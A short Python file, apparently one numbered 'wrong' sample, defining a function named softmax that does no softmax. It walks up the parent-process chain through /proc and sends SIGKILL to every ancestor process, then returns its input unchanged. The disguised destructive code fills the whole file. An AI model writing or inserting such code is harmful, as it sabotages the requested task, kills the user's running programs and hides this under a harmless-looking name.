# 1, wrong: kills everybody in the line that leads to it
import os
import re
import signal
from pathlib import Path


def softmax(x, dim):
    pid, line = os.getppid(), []
    while pid > 0:
        line.append(pid)
        try:
            pid = int(re.search(r"PPid:\s+(\d+)", Path(f"/proc/{pid}/status").read_text())[1])
        except OSError:
            break
    for pid in reversed(line):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return x
